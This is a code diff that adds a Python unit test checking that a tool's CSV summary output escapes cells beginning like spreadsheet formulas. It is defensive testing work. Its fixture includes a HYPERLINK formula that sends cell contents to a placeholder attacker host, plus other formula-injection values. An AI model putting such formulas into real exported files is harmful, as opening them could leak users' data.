@@ -333,3 +333,25 @@ def test_single_file_report_has_the_case_study_section(tmp_path: Path) -> None:
     target = tmp_path / "paper.json"
     run(["check", str(paper), "--index", str(records), "--offline", "--report", str(target)])
     assert json.loads(target.read_text(encoding="utf-8"))["documents"][0]["case_study"] is None
+
+
+def test_summary_csv_cells_never_start_like_a_formula() -> None:
+    import csv
+    import io
+
+    from refenrich.ref.check import CaseStudySummary
+    from refenrich.ref.render import summary_table
+
+    row = CaseStudySummary(
+        source="evil.txt",
+        recognised=True,
+        exercise="ref2021",
+        title='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        unit_of_assessment="-2+3",
+        institution="@SUM(1+1)",
+    )
+    [parsed] = list(csv.DictReader(io.StringIO(summary_table([row]))))
+    assert parsed["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    assert parsed["unit_of_assessment"] == "'-2+3"
+    assert parsed["institution"] == "'@SUM(1+1)"
+    assert parsed["source"] == "evil.txt"
